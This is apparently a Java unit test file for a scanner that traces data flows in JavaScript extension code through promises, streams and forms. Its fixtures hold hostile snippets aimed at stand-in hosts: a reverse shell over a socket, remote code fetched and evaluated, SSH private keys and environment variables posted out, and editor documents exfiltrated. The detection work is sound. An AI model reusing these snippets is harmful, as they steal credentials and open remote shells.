package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Data that goes through promises, pipes and objects that collect it. */
class StreamsAndPromisesTest {

    @Test
    void followsAPromiseOfARequestLibrary() {
        Analysis analysis = Analysis.ofActivate("""
                const axios = require('axios');
                axios.get('https://update.example/p').then(answer => require('vm').runInNewContext(answer.data.code));
                """);

        assertThat(analysis.flowNames()).containsExactly("network-response -> code-eval");
    }

    @Test
    void followsADownloadThatIsPipedToAProgramFile() {
        Analysis analysis = Analysis.ofActivate("""
                const target = path.join(os.tmpdir(), 'service.exe');
                https.get('https://files.example/service', response => response.pipe(fs.createWriteStream(target)));
                """);

        assertThat(analysis.flowNames()).containsExactly("network-response -> executable-write");
    }

    @Test
    void followsBothWaysOfAShellOnASocket() {
        Analysis analysis = Analysis.ofActivate("""
                const socket = require('net').connect(4444, '192.0.2.7', () => {
                  const shell = cp.spawn('/bin/sh', []);
                  socket.pipe(shell.stdin);
                  shell.stdout.pipe(socket);
                });
                """);

        assertThat(analysis.flowNames())
                .contains("network-response -> process-command", "process-output -> network-send");
    }

    @Test
    void whatAProgramReadsIsNoCommandUnlessTheProgramIsAShellThatReadsCommands() {
        Analysis analysis = Analysis.ofActivate("""
                const socket = require('net').connect(7000, '192.0.2.7', () => {
                  const server = cp.spawn('cmd.exe', ['/c', 'gopls serve']);
                  socket.pipe(server.stdin);
                });
                """);

        assertThat(analysis.flowNames()).containsExactly("network-response -> process-argument");
    }

    @Test
    void headersOfARequestDoNotNameItsHost() {
        Analysis analysis = Analysis.ofActivate("""
                const where = new URL(unknownPlace);
                https.request({ hostname: where.hostname, headers: { 'x-machine': os.hostname() } });
                """);

        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-header");
    }

    @Test
    void unpacksNothingWithoutAnArgument() {
        Analysis analysis = Analysis.ofActivate("""
                require('zlib').gunzip();
                fetch('https://collect.example/u', { method: 'POST', body: os.hostname() });
                """);

        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-send");
    }

    @Test
    void remembersWhatAFormCollects() {
        Analysis analysis = Analysis.ofActivate("""
                const FormData = require('form-data');
                const form = new FormData();
                form.append('key', fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')));
                require('axios').post('https://collect.example/u', form);
                """);

        assertThat(analysis.flowNames()).contains("ssh-credentials -> network-send");
    }

    @Test
    void isSilentWhenTheFormHoldsNothingOfASource() {
        Analysis analysis = Analysis.ofActivate("""
                const FormData = require('form-data');
                const form = new FormData();
                form.append('rating', 5);
                require('axios').post('https://collect.example/u', form);
                """);

        assertThat(analysis.flowNames()).isEmpty();
    }

    @Test
    void followsAPromiseThatALaterEventFulfils() {
        Analysis analysis = Analysis.ofActivate("""
                const socket = new WebSocket('wss://orders.example');
                const waiting = new Map();
                socket.onmessage = event => waiting.get('next').resolve(event.data);
                function next() {
                  return new Promise((resolve, reject) => waiting.set('next', { resolve, reject }));
                }
                async function obey() {
                  const order = await next();
                  cp.exec(order);
                }
                obey();
                """);

        assertThat(analysis.flowNames()).containsExactly("network-response -> process-command");
    }

    @Test
    void followsAPromiseThatALaterEventFulfilsThroughCompiledFunctions() {
        Analysis analysis = Analysis.ofActivate("""
                var __awaiter = function (thisArg, _arguments, P, generator) {
                  function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
                  return new (P || (P = Promise))(function (resolve, reject) {
                    function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
                    function rejected(value) { try { step(generator["throw"](value)); } catch (e) { reject(e); } }
                    function step(result) { result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected); }
                    step((generator = generator.apply(thisArg, _arguments || [])).next());
                  });
                };
                let done;
                function next() { return new Promise(resolve => { done = resolve; }); }
                function read() { return __awaiter(this, void 0, void 0, function* () { return (yield next()).order; }); }
                function obey() { return __awaiter(this, void 0, void 0, function* () { cp.exec(yield read()); }); }
                obey();
                new WebSocket('wss://orders.example').onmessage = event => done(JSON.parse(event.data));
                """);

        assertThat(analysis.flowNames()).containsExactly("network-response -> process-command");
    }

    /** As libraries do that follow who waits for whom, and stand-ins for old engines. */
    @Test
    void followsPromisesThoughTheProgramReplacesThem() {
        Analysis analysis = Analysis.ofActivate("""
                const Native = global.Promise;
                function Wrapped(executor) {
                  const promise = new Native((resolve, reject) => hooks[executor.name](resolve, reject));
                  promise.__proto__ = Wrapped.prototype;
                  return promise;
                }
                global.Promise = Wrapped;
                let done;
                const next = () => new Promise(resolve => { done = resolve; });
                (async () => cp.exec(await next()))();
                new WebSocket('wss://orders.example').onmessage = event => done(event.data);
                """);

        assertThat(analysis.flowNames()).containsExactly("network-response -> process-command");
    }

    /** As the subscribers of observables: one function for all stages, which calls its own. */
    @Test
    void followsEachStageThoughManyHaveRunThroughTheSameFunctions() {
        Analysis analysis = Analysis.ofActivate("""
                class Stage {
                  constructor(take) {
                    this._next = value => { try { take(value); } catch (error) { this.failed = String(error); } };
                  }
                  next(value) { if (!this.stopped) { this.count = (this.count || 0) + 1; this._next(value); } }
                }
                const name = value => { const parts = String(value).split('/'); return parts.slice(0, 3).join('-').toLowerCase().trim(); };
                for (let i = 0; i < 30; i++) new Stage(name).next(vscode.env.appName);
                const stages = [new Stage(name), new Stage(document => console.log(name(document.fileName))), new Stage(document => {
                  fetch('https://stage.example', { method: 'POST', body: document.getText() });
                })];
                vscode.workspace.onDidSaveTextDocument(document => stages[Math.floor(Math.random() * 3)].next(document));
                """);

        assertThat(analysis.flowNames()).contains("editor-document -> network-send");
    }

    /** As a subject that is shared: the event goes through the same wrapper once more for the next one. */
    @Test
    void followsAWrapperForEachObjectThatItsCallbackWasMadeFor() {
        Analysis analysis = Analysis.ofActivate("""
                const name = value => { const parts = String(value).split('/'); return parts.slice(0, 3).join('-').toLowerCase().trim(); };
                const guarded = callback => { try { callback(); } catch (error) { name(error.stack); } };
                class Subject {
                  constructor() { this.takers = []; }
                  next(value) { guarded(() => { name(value); for (const taker of this.takers) taker(value); }); }
                }
                for (let i = 0; i < 30; i++) guarded(() => name(vscode.env.appName));
                const first = new Subject(), shared = new Subject();
                first.takers.push(value => shared.next(value));
                shared.takers.push(document => fetch('https://shared.example', { method: 'POST', body: document.getText() }));
                vscode.workspace.onDidSaveTextDocument(document => { if (vscode.env.remoteName) first.next(document); });
                """);

        assertThat(analysis.flowNames()).contains("editor-document -> network-send");
    }

    @Test
    void aFailureThatMayHappenTakesNothingAwayForCertain() {
        Analysis analysis = Analysis.ofActivate("""
                let open = true;
                fetch('https://hello.example').then(() => {}, () => { open = false; });
                vscode.workspace.onDidSaveTextDocument(document => {
                  if (open) fetch('https://open.example', { method: 'POST', body: document.getText() });
                });
                """);

        assertThat(analysis.flowNames()).contains("editor-document -> network-send");
    }

    @Test
    void sendsAListThatEventsHaveFilled() {
        Analysis analysis = Analysis.ofActivate("""
                const seen = [];
                vscode.workspace.onDidSaveTextDocument(document => {
                  seen.push(document.getText());
                  if (seen.length >= 20) fetch('https://seen.example', { method: 'POST', body: JSON.stringify(seen.splice(0)) });
                });
                """);

        assertThat(analysis.flowNames()).containsExactly("editor-document -> network-send");
    }

    @Test
    void sendsWhenEventsHaveBeenCounted() {
        Analysis analysis = Analysis.ofActivate("""
                let count = 0, last = '';
                vscode.workspace.onDidSaveTextDocument(document => {
                  last = document.getText();
                  if (++count % 25 === 0) fetch('https://seen.example', { method: 'POST', body: last });
                });
                """);

        assertThat(analysis.flowNames()).containsExactly("editor-document -> network-send");
    }

    @Test
    void countsTurnsOfALoopForWhatTheyAreInEachRun() {
        Analysis analysis = Analysis.ofActivate("""
                let text = '';
                vscode.workspace.onDidSaveTextDocument(document => {
                  text = document.getText();
                  let host = '';
                  for (let i = 0; i < 3; i++) host += 'abc'[i];
                  fetch('https://' + host + '.example', { method: 'POST', body: text });
                });
                """);

        assertThat(analysis.destinations("editor-document", "network-send")).containsExactly("https://abc.example");
    }

    @Test
    void tellsPromisesOfOneHelperApartByTheirCallers() {
        Analysis analysis = Analysis.ofActivate("""
                function once(source) { return new Promise(resolve => source(value => resolve(value))); }
                async function greet() {
                  const name = await once(done => vscode.workspace.onDidSaveTextDocument(d => done('saved')));
                  fetch('https://greet.example/' + name);
                }
                async function save() {
                  const text = await once(done => vscode.workspace.onDidOpenTextDocument(d => done(d.getText())));
                  require('fs').writeFileSync('/tmp/x.txt', text);
                }
                greet();
                save();
                """);

        assertThat(analysis.flowNames()).containsExactly("editor-document -> file-write");
    }

    @Test
    void followsAQueueThatAnIteratorWaitsFor() {
        Analysis analysis = Analysis.ofActivate("""
                class Queue {
                  constructor() { this.items = []; }
                  put(item) { this.items.push(item); this.wake?.(); }
                  async *[Symbol.asyncIterator]() {
                    for (;;) {
                      while (this.items.length) yield this.items.shift();
                      await new Promise(resolve => (this.wake = resolve));
                    }
                  }
                }
                const queue = new Queue();
                async function pump() {
                  for await (const item of queue) fetch('https://seen.example', { method: 'POST', body: item.text });
                }
                pump();
                vscode.workspace.onDidSaveTextDocument(document => queue.put({ text: document.getText() }));
                """);

        assertThat(analysis.flowNames()).containsExactly("editor-document -> network-send");
    }

    @Test
    void followsAStreamThatItsControllerFills() {
        Analysis analysis = Analysis.ofActivate("""
                const body = new ReadableStream({
                  pull(controller) { controller.enqueue(new TextEncoder().encode(os.hostname())); controller.close(); }
                });
                fetch('https://seen.example', { method: 'POST', body, duplex: 'half' });
                """);

        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-send");
    }

    @Test
    void marksARequestToWhereAnAnswerSays() {
        Analysis analysis = Analysis.ofActivate("""
                (async () => {
                  const { upload } = await (await fetch('https://jobs.example/next')).json();
                  fetch(upload, { method: 'PUT', body: os.hostname() });
                })();
                """);

        assertThat(analysis.guards("account-identity", "network-send")).containsExactly("host-from-network");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "const packed = require('zlib').createGzip(); packed.pipe(request); packed.end(key);",
                "const packed = require('zlib').createBrotliCompress(); packed.end(key); packed.pipe(request);",
                "const through = new (require('stream').PassThrough)(); through.pipe(request); through.write(key);",
                "const first = new (require('stream').PassThrough)(), second = require('zlib').createDeflateRaw();"
                        + " second.pipe(request); first.pipe(second); first.end(key);",
            })
    void followsWhatIsWrittenIntoAStreamBeforeAndAfterItIsConnected(String sends) {
        Analysis analysis = Analysis.ofActivate("""
                const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');
                const request = https.request('https://pipe.example/in', { method: 'POST' });
                """ + sends);

        assertThat(analysis.flowNames()).containsExactly("ssh-credentials -> network-send");
        assertThat(analysis.destinations("ssh-credentials", "network-send")).containsExactly("https://pipe.example/in");
    }

    @Test
    void endsWhereStreamsAreConnectedInARing() {
        Analysis analysis = Analysis.ofActivate("""
                const { PassThrough } = require('stream');
                const one = new PassThrough(), two = new PassThrough();
                one.pipe(two); two.pipe(one);
                one.write(JSON.stringify(process.env));
                two.pipe(https.request('https://ring.example/in', { method: 'POST' }));
                """);

        assertThat(analysis.flowNames()).containsExactly("environment -> network-send");
    }
}
